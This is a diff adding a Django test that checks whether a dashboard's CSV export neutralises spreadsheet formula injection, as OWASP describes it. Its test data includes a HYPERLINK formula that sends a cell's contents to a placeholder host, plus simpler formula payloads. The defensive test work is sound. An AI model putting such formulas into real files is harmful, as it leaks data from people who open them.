@@ -228,3 +228,17 @@ def test_csv_export_query_count_is_bounded(manager_client, django_assert_max_num
         response = manager_client.get(reverse("admin:dashboard_stalled"), {"format": "csv"})
         rows = csv_rows(response)
     assert len(rows) == 31
+
+
+def test_csv_export_neutralises_formula_leading_text(manager_client):
+    """OWASP CSV injection: an imported order id or city never reaches a spreadsheet as a formula."""
+    alert = alert_for(ShopFactory(code="a"))
+    order = alert.parcel.order
+    order.order_id, order.dest_city, order.dest_province = '=HYPERLINK("http://x/?"&B2,"Claim")', "@SUM(1+1)", "+1+2"
+    order.save()
+
+    header, row = csv_rows(manager_client.get(reverse("admin:dashboard_stalled"), {"format": "csv"}))
+
+    assert row[header.index("order id")] == '\'=HYPERLINK("http://x/?"&B2,"Claim")'
+    assert row[header.index("destination city")] == "'@SUM(1+1)"
+    assert row[header.index("destination province")] == "'+1+2"
